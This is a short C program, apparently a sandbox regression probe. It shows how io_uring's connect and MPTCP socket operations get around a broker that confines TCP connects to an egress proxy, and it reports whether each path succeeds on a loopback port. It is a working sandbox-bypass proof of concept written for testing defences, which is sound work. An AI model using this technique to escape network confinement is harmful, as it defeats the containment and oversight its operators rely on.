/*
 * Attack on `[net] allow_hosts` when a policy lifts the io_uring baseline:
 * the broker that confines TCP connects to the egress proxy sees only the
 * connect(2) system call. IORING_OP_CONNECT connects without it, and
 * IORING_OP_SOCKET makes an MPTCP socket (refused to socket(2) wherever
 * TCP is restricted), which Landlock's TCP rules do not cover either: the
 * command reaches any port, past the proxy.
 *
 *   egress_uring PORT
 *
 * Prints probe-style lines: "what: OK" or "what: ERRNO". Raw syscalls, no
 * liburing.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "uring.h"

int main(int argc, char **argv) {
  if (argc != 2) return 2;
  struct sockaddr_in a;
  memset(&a, 0, sizeof a);
  a.sin_family = AF_INET;
  a.sin_port = htons((unsigned short)atoi(argv[1]));
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int tcp = socket(AF_INET, SOCK_STREAM, 0);
  report("tcp connect", connect(tcp, (struct sockaddr *)&a, sizeof a));
  struct ring ring;
  int rc = ring_open(&ring);
  report("io_uring_setup", rc);
  if (rc < 0) return 0;
  tcp = socket(AF_INET, SOCK_STREAM, 0);
  report("uring tcp connect", ring_connect(&ring, tcp, &a));
  int fd = ring_socket(&ring, AF_INET, SOCK_STREAM, IPPROTO_MPTCP);
  report("uring mptcp socket", fd);
  if (fd < 0) return 0;
  report("uring mptcp connect", ring_connect(&ring, fd, &a));
  return 0;
}
